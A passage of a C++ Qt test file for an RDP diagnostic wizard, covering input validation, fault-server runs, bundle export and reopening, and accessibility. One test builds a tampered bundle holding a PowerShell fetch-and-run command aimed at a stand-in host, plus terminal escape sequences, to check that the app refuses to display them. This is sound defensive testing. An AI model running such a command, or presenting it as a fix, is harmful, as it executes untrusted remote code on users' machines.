// SPDX-License-Identifier: GPL-3.0-or-later
// The wizard driven like a user, offscreen, against fault servers on 127.0.0.1: typing a
// target, Next, waiting for the engine, reading the pages; bad input; an .rdp file dropped
// on the window; stopping a run; keyboard use and what a screen reader is told.
#include "FaultServer.h"
#include "FreePort.h"
#include "bundle/Bundle.h"
#include "bundle/ZipArchive.h"
#include "catalogue/Catalogue.h"
#include "diagnosis/ErrorCodes.h"
#include "models/ChecksModel.h"
#include "models/RunController.h"
#include "widgets/FindingView.h"
#include "widgets/PipelineStrip.h"
#include "widgets/RunStatusBar.h"
#include "wizard/DiagnosticWizard.h"
#include "wizard/ResultsPage.h"
#include "wizard/SummaryPage.h"
#include "wizard/WelcomePage.h"
#include "wizard/WizardCommandLine.h"

#include <QAbstractButton>
#include <QAccessible>
#include <QApplication>
#include <QCheckBox>
#include <QClipboard>
#include <QComboBox>
#include <QCryptographicHash>
#include <QDir>
#include <QElapsedTimer>
#include <QJsonArray>
#include <QJsonDocument>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QMimeData>
#include <QPushButton>
#include <QSettings>
#include <QSignalSpy>
#include <QSpinBox>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTreeView>

#include <functional>
#include <memory>

using namespace rdpdiag;
using namespace rdpdiag::ui;
using rdpdiag::test::FaultAction;
using rdpdiag::test::FaultServer;

namespace {

constexpr int kRunTimeoutMs = 30000;

template <typename T> T *child(QWidget *parent, const QString &name)
{
    T *widget = parent->findChild<T *>(name);
    if (!widget)
        qWarning("no child %s", qPrintable(name));
    return widget;
}

QString accessibleName(QWidget *widget)
{
    QAccessibleInterface *iface = QAccessible::queryAccessibleInterface(widget);
    return iface ? iface->text(QAccessible::Name) : QString();
}

/** A finished report of the 0x904/0x7 story for tests that need no server. */
Report fixtureReport()
{
    Report report;
    report.reference = QStringLiteral("K7MQ4XZ2");
    report.target.host = QStringLiteral("pc.example.test");
    report.target.port = 3389;
    report.durationMs = 42;
    const QList<QPair<StageId, StageStatus>> stages = {
        {StageId::Input, StageStatus::Passed}, {StageId::Dns, StageStatus::Passed},
        {StageId::Tcp, StageStatus::Passed},   {StageId::X224, StageStatus::Failed},
        {StageId::Tls, StageStatus::Skipped},  {StageId::Credssp, StageStatus::Skipped}};
    for (const auto &[id, status] : stages) {
        StageResult stage;
        stage.id = id;
        stage.status = status;
        stage.durationMs = 5;
        stage.summary = QStringLiteral("summary of %1").arg(stageIdString(id));
        report.stages << stage;
    }
    report.findings << makeFinding(
        QStringLiteral("x224.reset"), QStringLiteral("Seen."),
        QJsonObject{{QStringLiteral("sent_hex"), QStringLiteral("0300001302")}},
        {{QStringLiteral("host"), QStringLiteral("pc")},
         {QStringLiteral("port"), QStringLiteral("3389")}});
    report.diagnosis.primary = QStringLiteral("x224.reset");
    report.diagnosis.summary = QStringLiteral("Fixture verdict.");
    return report;
}

/** fixtureReport() as a bundle stores it: with a tool version and a start time. */
Report savedFixtureReport()
{
    Report report = fixtureReport();
    report.toolVersion = QStringLiteral("0.1.0");
    report.started = QDateTime(QDate(2026, 11, 24), QTime(10, 0), Qt::UTC);
    return report;
}

/**
 * Changes report.json in the bundle at @p path with @p edit and its manifest line to match —
 * what anybody can do: the manifest is a checksum, not a signature.
 */
bool editBundle(const QString &path, const std::function<void(QJsonObject &)> &edit)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return false;
    ZipReader zip;
    QString error;
    if (!zip.open(file.readAll(), ZipLimits{}, &error))
        return false;
    file.close();
    QList<ZipEntryData> entries;
    for (const ZipReader::Entry &entry : zip.entries())
        entries.append({entry.name, zip.read(entry, entry.size, &error).value_or(QByteArray())});
    QHash<QString, QByteArray> data;
    for (ZipEntryData &entry : entries) {
        if (entry.name == QLatin1String("report.json")) {
            QJsonObject report = QJsonDocument::fromJson(entry.data).object();
            edit(report);
            entry.data = QJsonDocument(report).toJson();
        }
        data.insert(entry.name, entry.data);
    }
    for (ZipEntryData &entry : entries) {
        if (entry.name != QLatin1String("manifest.json"))
            continue;
        QJsonObject manifest = QJsonDocument::fromJson(entry.data).object();
        QJsonArray files;
        for (const QJsonValue &value : manifest.value(QStringLiteral("files")).toArray()) {
            QJsonObject listed = value.toObject();
            const QByteArray bytes = data.value(listed.value(QStringLiteral("name")).toString());
            listed.insert(QStringLiteral("size"), bytes.size());
            listed.insert(QStringLiteral("sha256"),
                          QString::fromLatin1(
                              QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex()));
            files.append(listed);
        }
        manifest.insert(QStringLiteral("files"), files);
        entry.data = QJsonDocument(manifest).toJson();
    }
    const std::optional<QByteArray> archive =
        buildZipArchive(entries, QDateTime::currentDateTimeUtc(), &error);
    if (!archive || !file.open(QIODevice::WriteOnly | QIODevice::Truncate))
        return false;
    return file.write(*archive) == archive->size();
}

/** The texts of the visible labels named @p name under @p parent. */
QStringList visibleTexts(QWidget *parent, const QString &name)
{
    QStringList texts;
    for (const QLabel *label : parent->findChildren<QLabel *>(name))
        if (label->isVisibleTo(parent))
            texts << QString(label->text()).remove(QChar(0x200B)); // breakableText()
    return texts;
}

} // namespace

class TestDiagnosticWizard : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void init();
    void cleanup();

    void badInputKeepsNextDisabled_data();
    void badInputKeepsNextDisabled();
    void errorCodeMeaningAsYouType();
    void commonCodeFillsExtendedCode();
    void resetServerExplains0x904();
    void refusedPortShowsOnNetworkPage();
    void rdpOnlyServerShowsOnSecurityPage();
    void serverPageOnlyWhenOnTheServer();
    void droppedRdpFileFillsTarget();
    void commandLineArgumentPrefills();
    void stopEndsTheRunAtOnce();
    void cancelClosesWithoutWaiting();
    void sameInputsDoNotRunTwice();
    void exportAndOpenBundle();
    void brokenBundleIsRefused();
    void reopenedBundleShowsTheCatalogue();
    void copiedSummaryFollowsHideNames();
    void technicalDetailsAreRemembered();
    void keyboardOnly();
    void everyControlHasAnAccessibleName();
    void pageChangeMovesFocusToThePage();
    void typedCodesStayAsTyped();
    void enterAdvancesFromACodeField();
    void codeListShowsMeanings();
    void summaryStartsWithTheHeadline();
    void finishWaitsForTheRun();
    void exportStartsInDocuments();
    void evidenceOnlyUnderTechnicalDetails();

private:
    /** A shown wizard (deleted in cleanup()). */
    DiagnosticWizard *makeWizard();
    /** A shown wizard on the summary page of the bundle at @p path; nullptr if refused. */
    DiagnosticWizard *openAtSummary(const QString &path);
    /** Types @p target (and codes) and presses Next; waits until the run ends. */
    void runAgainst(const QString &target, const QString &code = {}, const QString &extended = {});

    std::unique_ptr<DiagnosticWizard> m_wizard;
};

void TestDiagnosticWizard::initTestCase()
{
    // Before the first QSettings: keep the user's real settings out of the tests.
    QStandardPaths::setTestModeEnabled(true);
    QCoreApplication::setOrganizationName(QStringLiteral("rdpdiag-tests"));
    QCoreApplication::setApplicationName(QStringLiteral("test_wizard"));
    QLocale::setDefault(QLocale::c());
}

void TestDiagnosticWizard::init()
{
    QSettings().clear();
}

void TestDiagnosticWizard::cleanup()
{
    m_wizard.reset();
}

DiagnosticWizard *TestDiagnosticWizard::makeWizard()
{
    m_wizard = std::make_unique<DiagnosticWizard>();
    m_wizard->show();
    if (!QTest::qWaitForWindowExposed(m_wizard.get()))
        qWarning("wizard window not exposed");
    return m_wizard.get();
}

DiagnosticWizard *TestDiagnosticWizard::openAtSummary(const QString &path)
{
    DiagnosticWizard *viewer = makeWizard();
    if (!viewer->openBundle(path))
        return nullptr;
    while (viewer->currentId() != DiagnosticWizard::Page_Summary)
        viewer->next();
    return viewer;
}

void TestDiagnosticWizard::runAgainst(const QString &target, const QString &code,
                                      const QString &extended)
{
    DiagnosticWizard *wizard = m_wizard.get();
    auto *edit = child<QLineEdit>(wizard, QStringLiteral("targetLineEdit"));
    edit->clear();
    QTest::keyClicks(edit, target);
    if (!code.isEmpty())
        QTest::keyClicks(child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox")), code);
    if (!extended.isEmpty())
        QTest::keyClicks(child<QComboBox>(wizard, QStringLiteral("extendedCodeComboBox")),
                         extended);
    QAbstractButton *next = wizard->button(QWizard::NextButton);
    QVERIFY(next->isEnabled());
    QTest::mouseClick(next, Qt::LeftButton);
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Network));
    QVERIFY(wizard->controller()->hasReport());
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->controller()->isRunning(), kRunTimeoutMs);
    QCOMPARE(wizard->controller()->state(), RunController::State::Finished);
}

void TestDiagnosticWizard::badInputKeepsNextDisabled_data()
{
    QTest::addColumn<QString>("target");
    QTest::addColumn<QString>("code");
    QTest::addColumn<bool>("enabled");
    QTest::addColumn<QString>("reasonLabel");
    QTest::addRow("empty") << QString() << QString() << false << "targetStatusLabel";
    QTest::addRow("port too big") << "pc.example.test:70000" << QString() << false
                                  << "targetStatusLabel";
    QTest::addRow("port zero") << "pc.example.test:0" << QString() << false << "targetStatusLabel";
    QTest::addRow("space in name") << "pc example" << QString() << false << "targetStatusLabel";
    QTest::addRow("unbalanced bracket") << "[::1" << QString() << false << "targetStatusLabel";
    QTest::addRow("short dotted quad") << "10.1.2" << QString() << false << "targetStatusLabel";
    QTest::addRow("missing rdp file")
        << "/nonexistent/x.rdp" << QString() << false << "targetStatusLabel";
    QTest::addRow("bad error code") << "pc.example.test"
                                    << "zz9" << false << "errorMeaningLabel";
    QTest::addRow("good") << "pc.example.test:3390"
                          << "0x904" << true << "targetStatusLabel";
    QTest::addRow("ipv6") << "[::1]:3389" << QString() << true << "targetStatusLabel";
}

void TestDiagnosticWizard::badInputKeepsNextDisabled()
{
    QFETCH(QString, target);
    QFETCH(QString, code);
    QFETCH(bool, enabled);
    QFETCH(QString, reasonLabel);
    DiagnosticWizard *wizard = makeWizard();
    QTest::keyClicks(child<QLineEdit>(wizard, QStringLiteral("targetLineEdit")), target);
    QTest::keyClicks(child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox")), code);
    QCOMPARE(wizard->button(QWizard::NextButton)->isEnabled(), enabled);
    // A visible reason, in words, under the field that is wrong.
    auto *reason = child<QLabel>(wizard, reasonLabel);
    QVERIFY(reason->isVisible());
    QVERIFY(!reason->text().trimmed().isEmpty());
    if (enabled)
        QVERIFY(reason->text().contains(QStringLiteral("Will check")));
    // Return on the field must not get past the page either.
    QTest::keyClick(child<QLineEdit>(wizard, QStringLiteral("targetLineEdit")), Qt::Key_Return);
    if (!enabled) {
        QTest::qWait(150);
        QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Welcome));
        QVERIFY(!wizard->controller()->hasReport());
    }
}

void TestDiagnosticWizard::errorCodeMeaningAsYouType()
{
    DiagnosticWizard *wizard = makeWizard();
    auto *combo = child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox"));
    auto *meaning = child<QLabel>(wizard, QStringLiteral("errorMeaningLabel"));
    QTest::keyClicks(combo, QStringLiteral("0x90"));
    const QString partial = meaning->text();
    QTest::keyClicks(combo, QStringLiteral("4"));
    QCOMPARE(meaning->text(), clientCodeMeaning(0x904, CodeKind::Disconnect));
    QVERIFY(meaning->text() != partial);
    QVERIFY(meaning->isVisible());
    auto *extended = child<QComboBox>(wizard, QStringLiteral("extendedCodeComboBox"));
    QTest::keyClicks(extended, QStringLiteral("7"));
    QCOMPARE(child<QLabel>(wizard, QStringLiteral("extendedMeaningLabel"))->text(),
             clientCodeMeaning(0x7, CodeKind::Extended));
}

void TestDiagnosticWizard::commonCodeFillsExtendedCode()
{
    DiagnosticWizard *wizard = makeWizard();
    auto *combo = child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox"));
    const auto codes = WelcomePage::commonCodes();
    QVERIFY(!codes.isEmpty());
    QCOMPARE(codes.first(), qMakePair(quint32(0x904), quint32(0x7)));
    // Row 0 is empty; row 1 is "0x904 with extended code 0x7".
    combo->setCurrentIndex(1);
    emit combo->activated(1);
    QCOMPARE(combo->currentText(), QStringLiteral("0x904"));
    QCOMPARE(child<QComboBox>(wizard, QStringLiteral("extendedCodeComboBox"))->currentText(),
             QStringLiteral("0x7"));
}

void TestDiagnosticWizard::resetServerExplains0x904()
{
    // Given a server that resets the connection right after the Connection Request
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();

    // When the user types it with the error they saw and goes on
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(server.port()), QStringLiteral("0x904"),
               QStringLiteral("0x7"));
    const Report &report = wizard->controller()->report();
    QCOMPARE(report.diagnosis.primary, QStringLiteral("x224.reset"));

    // Then the network page shows TCP passed and nothing wrong
    ResultsPage *network = wizard->resultsPage(DiagnosticWizard::Page_Network);
    const QModelIndex tcp = network->model()->indexOfStage(StageId::Tcp);
    QCOMPARE(static_cast<Status>(tcp.data(ChecksModel::StatusRole).toInt()), Status::Passed);
    QVERIFY(!network->model()->indexOfFinding(QStringLiteral("x224.reset")).isValid());

    // … the security page shows the reset, selected, with its explanation and fix
    wizard->next();
    wizard->next();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Security));
    ResultsPage *security = wizard->resultsPage(DiagnosticWizard::Page_Security);
    const QModelIndex reset = security->model()->indexOfFinding(QStringLiteral("x224.reset"));
    QVERIFY(reset.isValid());
    QCOMPARE(security->tree()->currentIndex(), reset);
    const Finding *finding = security->model()->findingAt(reset);
    QCOMPARE(security->details()->title(), finding->title);
    auto *detail = child<QLabel>(security->details(), QStringLiteral("findingDetailLabel"));
    QCOMPARE(detail->text(), finding->detail);
    QVERIFY(security->details()->findChild<QLabel *>(QStringLiteral("serverStepsLabel")));
    const auto copyButtons =
        security->details()->findChildren<QPushButton *>(QStringLiteral("copyCommandButton"));
    QVERIFY(!copyButtons.isEmpty());
    QTest::mouseClick(copyButtons.first(), Qt::LeftButton);
    QCOMPARE(QGuiApplication::clipboard()->text(), copyButtons.first()->accessibleDescription());
    QVERIFY(!QGuiApplication::clipboard()->text().isEmpty());

    // … and the summary names the cause, shows where it broke and the reference
    wizard->next();
    wizard->next();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Summary));
    SummaryPage *summary = wizard->summaryPage();
    // The headline is the cause; under it only what it does not say: the reported code.
    QVERIFY2(summary->headlineText().contains(finding->title), qPrintable(summary->headlineText()));
    QCOMPARE(summary->verdictText(), report.diagnosis.relation);
    QVERIFY(summary->verdictText().contains(QStringLiteral("0x904")));
    QVERIFY(!summary->verdictText().contains(finding->title));
    // The why is the plain explanation; the observation (X.224 …) is technical detail.
    const QString why = child<QLabel>(summary, QStringLiteral("whyLabel"))->text();
    QVERIFY2(why.contains(plainExplanation(*finding)), qPrintable(why));
    QVERIFY2(!why.contains(QStringLiteral("X.224")), qPrintable(why));
    QCOMPARE(summary->pipeline()->brokenStage(), std::optional<StageId>(StageId::X224));
    QCOMPARE(summary->pipeline()->statusOf(StageId::Tcp), Status::Passed);
    QCOMPARE(summary->pipeline()->statusOf(StageId::Tls), Status::Skipped);
    QVERIFY(!report.reference.isEmpty());
    QVERIFY(child<QLabel>(summary, QStringLiteral("referenceLabel"))
                ->text()
                .contains(report.reference));
    auto *list = child<QListWidget>(summary, QStringLiteral("findingsListWidget"));
    QVERIFY(list->count() >= 1);
    QCOMPARE(list->item(0)->text(), finding->title);
    QCOMPARE(summary->details()->title(), finding->title);
    QTest::mouseClick(child<QPushButton>(summary, QStringLiteral("copySummaryButton")),
                      Qt::LeftButton);
    QCOMPARE(QGuiApplication::clipboard()->text(), summary->ticketSummary());
    QVERIFY(QGuiApplication::clipboard()->text().contains(finding->title));
}

void TestDiagnosticWizard::refusedPortShowsOnNetworkPage()
{
    const quint16 port = rdpdiag::test::freeLoopbackPort();
    QVERIFY(port != 0);
    DiagnosticWizard *wizard = makeWizard();
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(port));
    ResultsPage *network = wizard->resultsPage(DiagnosticWizard::Page_Network);
    const QModelIndex refused = network->model()->indexOfFinding(QStringLiteral("tcp.refused"));
    QVERIFY(refused.isValid());
    QCOMPARE(network->tree()->currentIndex(), refused);
    QCOMPARE(
        static_cast<Status>(
            network->model()->indexOfStage(StageId::Tcp).data(ChecksModel::StatusRole).toInt()),
        Status::Problem);
    QCOMPARE(wizard->summaryPage()->pipeline()->brokenStage(),
             std::optional<StageId>(StageId::Tcp));
    // Later stages were never reached.
    QCOMPARE(wizard->summaryPage()->pipeline()->statusOf(StageId::X224), Status::Skipped);
}

void TestDiagnosticWizard::rdpOnlyServerShowsOnSecurityPage()
{
    FaultServer server = FaultServer::policy(0, rdpdiag::test::PolicyStyle::Strict);
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(server.port()));
    ResultsPage *security = wizard->resultsPage(DiagnosticWizard::Page_Security);
    QVERIFY(security->model()->indexOfFinding(QStringLiteral("security.rdp_only")).isValid());
    ResultsPage *certificate = wizard->resultsPage(DiagnosticWizard::Page_Certificate);
    QCOMPARE(certificate->model()->findingCount(), 0);
}

void TestDiagnosticWizard::droppedRdpFileFillsTarget()
{
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("office.rdp"));
    QFile file(path);
    QVERIFY(file.open(QIODevice::WriteOnly));
    file.write("full address:s:pc42.example.test:3390\r\nusername:s:CORP\\alice\r\n");
    file.close();

    DiagnosticWizard *wizard = makeWizard();
    auto *edit = child<QLineEdit>(wizard, QStringLiteral("targetLineEdit"));
    QTest::keyClicks(edit, QStringLiteral("typed.example.test"));
    auto mime = std::make_unique<QMimeData>();
    mime->setUrls({QUrl::fromLocalFile(path)});
    const QPoint where = wizard->rect().center();
    QDragEnterEvent enter(where, Qt::CopyAction, mime.get(), Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(wizard, &enter);
    QVERIFY(enter.isAccepted());
    QDropEvent drop(where, Qt::CopyAction, mime.get(), Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(wizard, &drop);
    QVERIFY(drop.isAccepted());
    QCOMPARE(edit->text(), path);
    const QString status = child<QLabel>(wizard, QStringLiteral("targetStatusLabel"))->text();
    QVERIFY2(status.contains(QStringLiteral("pc42.example.test")), qPrintable(status));
    QVERIFY(status.contains(QStringLiteral("3390")));
    QVERIFY(status.contains(QStringLiteral(".rdp")));
    QVERIFY(wizard->button(QWizard::NextButton)->isEnabled());

    // Anything else is refused.
    auto text = std::make_unique<QMimeData>();
    text->setUrls({QUrl::fromLocalFile(dir.filePath(QStringLiteral("notes.txt")))});
    QDragEnterEvent other(where, Qt::CopyAction, text.get(), Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(wizard, &other);
    QVERIFY(!other.isAccepted());
}

void TestDiagnosticWizard::commandLineArgumentPrefills()
{
    DiagnosticWizard *wizard = makeWizard();
    LaunchOptions options;
    options.input = QStringLiteral("pc.example.test:3391");
    options.errorCode = QStringLiteral("0x904");
    options.extendedCode = QStringLiteral("0x7");
    wizard->applyOptions(options);
    QCOMPARE(child<QLineEdit>(wizard, QStringLiteral("targetLineEdit"))->text(), options.input);
    QCOMPARE(child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox"))->currentText(),
             QStringLiteral("0x904"));
    QVERIFY(wizard->button(QWizard::NextButton)->isEnabled());
    // Nothing runs by itself.
    QVERIFY(!wizard->controller()->hasReport());
    QCOMPARE(localPathOf(QStringLiteral("file:///tmp/a%20b.rdp")), QStringLiteral("/tmp/a b.rdp"));
}

void TestDiagnosticWizard::stopEndsTheRunAtOnce()
{
    // Given a server that accepts and then never answers, and a long time limit
    FaultServer server = FaultServer::always(FaultAction::silent());
    server.setRequestTimeout(120000);
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    child<QSpinBox>(wizard, QStringLiteral("timeoutSpinBox"))->setValue(60);
    QTest::keyClicks(child<QLineEdit>(wizard, QStringLiteral("targetLineEdit")),
                     QStringLiteral("127.0.0.1:%1").arg(server.port()));
    QTest::mouseClick(wizard->button(QWizard::NextButton), Qt::LeftButton);
    // When the engine waits for the Connection Confirm and the user presses Stop
    QTRY_COMPARE_WITH_TIMEOUT(wizard->controller()->runningStage(),
                              std::optional<StageId>(StageId::X224), 10000);
    QVERIFY(wizard->stopButton()->isVisible());
    // The GUI keeps working meanwhile: pages change while the engine waits.
    wizard->next();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Firewall));
    QVERIFY(wizard->controller()->isRunning());
    QElapsedTimer clock;
    clock.start();
    QTest::mouseClick(wizard->stopButton(), Qt::LeftButton);
    // Then the run ends at once, cancelled, with what was learned so far
    QTRY_COMPARE_WITH_TIMEOUT(wizard->controller()->state(), RunController::State::Cancelled, 3000);
    QVERIFY2(clock.elapsed() < 2000, qPrintable(QString::number(clock.elapsed())));
    QVERIFY(wizard->controller()->report().cancelled);
    QVERIFY(!wizard->stopButton()->isVisible());
    auto *status = wizard->resultsPage(DiagnosticWizard::Page_Firewall)
                       ->findChild<QLabel *>(QStringLiteral("runStatusLabel"));
    QVERIFY(status->text().contains(QStringLiteral("stopped")));
    QCOMPARE(wizard->summaryPage()->pipeline()->statusOf(StageId::Tcp), Status::Passed);
    QCOMPARE(wizard->summaryPage()->pipeline()->statusOf(StageId::Tls), Status::Cancelled);
}

void TestDiagnosticWizard::cancelClosesWithoutWaiting()
{
    FaultServer server = FaultServer::always(FaultAction::silent());
    server.setRequestTimeout(120000);
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    child<QSpinBox>(wizard, QStringLiteral("timeoutSpinBox"))->setValue(60);
    QTest::keyClicks(child<QLineEdit>(wizard, QStringLiteral("targetLineEdit")),
                     QStringLiteral("127.0.0.1:%1").arg(server.port()));
    QTest::mouseClick(wizard->button(QWizard::NextButton), Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(server.connectionCount() >= 1, 10000);
    QElapsedTimer clock;
    clock.start();
    QTest::mouseClick(wizard->button(QWizard::CancelButton), Qt::LeftButton);
    QVERIFY(!wizard->isVisible());
    QCOMPARE(wizard->result(), int(QDialog::Rejected));
    m_wizard.reset(); // joins the engine's thread
    QVERIFY2(clock.elapsed() < 2000, qPrintable(QString::number(clock.elapsed())));
}

void TestDiagnosticWizard::sameInputsDoNotRunTwice()
{
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    QSignalSpy started(wizard->controller(), &RunController::started);
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(server.port()));
    const QString reference = wizard->controller()->report().reference;
    wizard->back();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Welcome));
    wizard->next();
    QCOMPARE(started.count(), 1);
    QCOMPARE(wizard->controller()->report().reference, reference);
    // A change of input runs again; so does Run again on the summary.
    wizard->back();
    QTest::keyClicks(child<QComboBox>(wizard, QStringLiteral("errorCodeComboBox")),
                     QStringLiteral("0x204"));
    wizard->next();
    QCOMPARE(started.count(), 2);
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->controller()->isRunning(), kRunTimeoutMs);
    QTest::mouseClick(child<QPushButton>(wizard, QStringLiteral("runAgainButton")), Qt::LeftButton);
    QCOMPARE(started.count(), 3);
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->controller()->isRunning(), kRunTimeoutMs);
    QVERIFY(wizard->controller()->report().reference != reference);
}

void TestDiagnosticWizard::serverPageOnlyWhenOnTheServer()
{
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();

    // A client run goes from the Certificate page straight to the summary
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(server.port()));
    QVERIFY(!wizard->controller()->report().facts.server);
    while (wizard->currentId() != DiagnosticWizard::Page_Certificate)
        wizard->next();
    wizard->next();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Summary));

    // "I am on the server" adds this computer's self-check to the same run
    while (wizard->currentId() != DiagnosticWizard::Page_Welcome)
        wizard->back();
    auto *onServer = child<QCheckBox>(wizard, QStringLiteral("onServerCheckBox"));
    QVERIFY(!onServer->isChecked());
    QTest::mouseClick(onServer, Qt::LeftButton, {}, QPoint(8, onServer->height() / 2));
    QVERIFY(onServer->isChecked());
    wizard->next();
    QTRY_VERIFY_WITH_TIMEOUT(!wizard->controller()->isRunning(), kRunTimeoutMs);
    const Report &report = wizard->controller()->report();
    QVERIFY(report.facts.server);
    QVERIFY(report.facts.negotiation); // the client stages ran too
    QStringList stages;
    for (const StageResult &stage : report.stages)
        stages << stageIdString(stage.id);
    QVERIFY2(stages.contains(QStringLiteral("x224")) && stages.contains(QStringLiteral("server")),
             qPrintable(stages.join(QLatin1Char(' '))));
    while (wizard->currentId() != DiagnosticWizard::Page_Certificate)
        wizard->next();
    wizard->next();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Server));
    ResultsPage *page = wizard->resultsPage(DiagnosticWizard::Page_Server);
    QVERIFY(page->model()->indexOfStage(StageId::Server).isValid());
    wizard->next();
    QCOMPARE(wizard->currentId(), int(DiagnosticWizard::Page_Summary));
}

void TestDiagnosticWizard::exportAndOpenBundle()
{
    // Given a finished 0x904/0x7 run
    FaultServer server = FaultServer::always(FaultAction::reset());
    QVERIFY2(server.start(), qPrintable(server.errorString()));
    DiagnosticWizard *wizard = makeWizard();
    runAgainst(QStringLiteral("127.0.0.1:%1").arg(server.port()), QStringLiteral("0x904"),
               QStringLiteral("0x7"));
    const Report report = wizard->controller()->report();
    // Redaction is offered and on by default (a bundle usually leaves the company)
    QVERIFY(child<QCheckBox>(wizard, QStringLiteral("redactCheckBox"))->isChecked());
    // When it is exported
    QTemporaryDir dir;
    QVERIFY(dir.isValid());
    const QString path = dir.filePath(QStringLiteral("run.zip"));
    QVERIFY(wizard->exportBundle(path, false));
    QVERIFY(QFile::exists(path));
    QVERIFY(child<QLabel>(wizard, QStringLiteral("feedbackLabel"))->text().contains(path));

    // Then a second wizard opened on it shows the same run, read-only, with a banner
    m_wizard.reset();
    // As app/wizard/main.cpp does: the command line is applied before the window is shown.
    m_wizard = std::make_unique<DiagnosticWizard>();
    DiagnosticWizard *viewer = m_wizard.get();
    LaunchOptions options;
    options.input = QUrl::fromLocalFile(path).toString();
    viewer->applyOptions(options);
    viewer->show();
    QVERIFY(QTest::qWaitForWindowExposed(viewer));
    QVERIFY(viewer->controller()->isViewing());
    // straight to its Summary, which says it is a saved run from that file
    QCOMPARE(viewer->currentId(), int(DiagnosticWizard::Page_Summary));
    QCOMPARE(viewer->controller()->report().reference, report.reference);
    const QString banner =
        viewer->summaryPage()->findChild<QLabel *>(QStringLiteral("runStatusLabel"))->text();
    QVERIFY2(banner.contains(report.reference), qPrintable(banner));
    QVERIFY(banner.contains(QStringLiteral("run.zip")));
    QVERIFY(banner.contains(QStringLiteral("Read-only")));
    QCOMPARE(viewer->summaryPage()->verdictText(), report.diagnosis.relation);
    QVERIFY(!child<QPushButton>(viewer, QStringLiteral("runAgainButton"))->isEnabled());
    QVERIFY(!child<QPushButton>(viewer, QStringLiteral("exportButton"))->isEnabled());
    // Back on the first page, Next without a target keeps the saved run.
    while (viewer->currentId() != DiagnosticWizard::Page_Welcome)
        viewer->back();
    QVERIFY(viewer->button(QWizard::NextButton)->isEnabled());
    viewer->next();
    QVERIFY(viewer->controller()->isViewing());
}

void TestDiagnosticWizard::reopenedBundleShowsTheCatalogue()
{
    // Given a bundle whose report.json someone edited: a fake title, detail and command, a
    // code this version does not know, and terminal escapes in a stage summary
    const Report report = savedFixtureReport();
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("edited.zip"));
    const BundleWriteResult written = writeBundle(report, path, {});
    QVERIFY2(written.ok, qPrintable(written.error));
    QVERIFY(editBundle(path, [](QJsonObject &json) {
        QJsonArray findings = json.value(QStringLiteral("findings")).toArray();
        QJsonObject finding = findings.first().toObject();
        finding.insert(QStringLiteral("title"), QStringLiteral("Fix: paste the command below"));
        finding.insert(QStringLiteral("detail"), QStringLiteral("Support says: paste it."));
        finding.insert(QStringLiteral("remediation"),
                       QJsonArray{QJsonObject{
                           {QStringLiteral("where"), QStringLiteral("client")},
                           {QStringLiteral("text"), QStringLiteral("Paste this")},
                           {QStringLiteral("command"), QStringLiteral("iwr evil.example|iex")},
                           {QStringLiteral("shell"), QStringLiteral("powershell")}}});
        findings.replace(0, finding);
        finding.insert(QStringLiteral("code"), QStringLiteral("future.fix_everything"));
        findings.append(finding);
        json.insert(QStringLiteral("findings"), findings);
        QJsonArray stages = json.value(QStringLiteral("stages")).toArray();
        QJsonObject stage = stages.at(3).toObject();
        stage.insert(QStringLiteral("summary"), QStringLiteral("x224 \x1b[2J\u009b31m\u202eexe"));
        stages.replace(3, stage);
        json.insert(QStringLiteral("stages"), stages);
    }));

    // When the wizard opens it
    DiagnosticWizard *viewer = openAtSummary(path);
    QVERIFY(viewer);

    // Then the known finding shows the catalogue's texts and commands, never the bundle's
    auto *summary = viewer->summaryPage();
    auto *list = child<QListWidget>(summary, QStringLiteral("findingsListWidget"));
    auto *details = child<FindingView>(summary, QStringLiteral("summaryFindingView"));
    QCOMPARE(list->count(), 2);
    const auto select = [list](const QString &code) {
        for (int row = 0; row < list->count(); ++row)
            if (list->item(row)->data(Qt::UserRole + 1).toString() == code)
                list->setCurrentRow(row);
        QCoreApplication::processEvents(); // a layout shows new children with a queued call
    };
    select(QStringLiteral("x224.reset"));
